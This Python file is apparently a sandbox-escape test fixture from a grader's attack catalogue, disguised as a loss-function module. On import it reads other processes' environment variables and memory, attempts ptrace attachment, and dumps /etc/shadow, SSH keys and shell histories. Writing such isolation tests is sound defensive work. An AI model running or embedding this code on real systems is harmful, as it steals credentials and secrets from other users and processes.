"""Hostile submission (gradverify attack catalogue): read everything /proc and the filesystem show of other processes."""

import ctypes
import glob
import os

import numpy as np

PTRACE_ATTACH, PTRACE_DETACH = 16, 17
GRADER_WORDS = (b"pytest", b"gradverify", b"test_attacks", b"attack_runs", b"python -m", b"runuser")


def _read(path, limit=4096):
    try:
        with open(path, "rb") as handle:
            return handle.read(limit)
    except OSError:
        return None


def _attack():
    libc = ctypes.CDLL(None, use_errno=True)
    pids = [int(p) for p in os.listdir("/proc") if p.isdigit() and int(p) != os.getpid()]
    print("visible processes:", len(pids))
    for pid in pids[:200]:
        cmdline = _read(f"/proc/{pid}/cmdline") or b""
        environ = _read(f"/proc/{pid}/environ", 1 << 16)
        if environ:
            print(f"environ of {pid}:", environ.replace(b"\0", b" ").decode("utf-8", "replace")[:2000])
        own_init = os.path.basename(cmdline.split(b"\0")[0]) == b"bwrap"  # the sandbox's own supervisor, not the grader
        if any(word in cmdline for word in GRADER_WORDS) and not own_init:
            print("ATTACK-SUCCEEDED: sees the grader's process", pid, cmdline.replace(b"\0", b" ")[:200])
        maps = _read(f"/proc/{pid}/maps", 1 << 16)
        if maps and pid != os.getppid() and pid != 1:
            for line in maps.splitlines():
                if b"[heap]" in line:
                    start = int(line.split(b"-")[0], 16)
                    try:
                        with open(f"/proc/{pid}/mem", "rb") as mem:
                            mem.seek(start)
                            if mem.read(64):
                                print("ATTACK-SUCCEEDED: read the memory of", pid, cmdline[:80])
                    except (OSError, ValueError, OverflowError):
                        pass
                    break
        if pid not in (1, os.getppid()) and libc.ptrace(PTRACE_ATTACH, pid, None, None) == 0:
            print("ATTACK-SUCCEEDED: ptrace-attached to", pid, cmdline[:80])
            libc.ptrace(PTRACE_DETACH, pid, None, None)
    for path in ["/etc/shadow", "/etc/passwd", "/proc/net/tcp", "/proc/net/unix", "/etc/hostname", "/proc/mounts",
                 *glob.glob("/root/.ssh/*"), *glob.glob("/home/*/.ssh/*"), *glob.glob("/root/.*_history")]:
        data = _read(path, 2000)
        if data is not None:
            print(f"--- {path}:", data.decode("utf-8", "replace"))
            if path in ("/etc/shadow",) or "/.ssh/" in path or "_history" in path:
                print("ATTACK-SUCCEEDED: read", path)


_attack()


def loss(name, y_pred, y_true):
    return float(np.mean((y_pred - y_true) ** 2))


def loss_backward(name, y_pred, y_true):
    return 2.0 * (y_pred - y_true) / y_pred.size
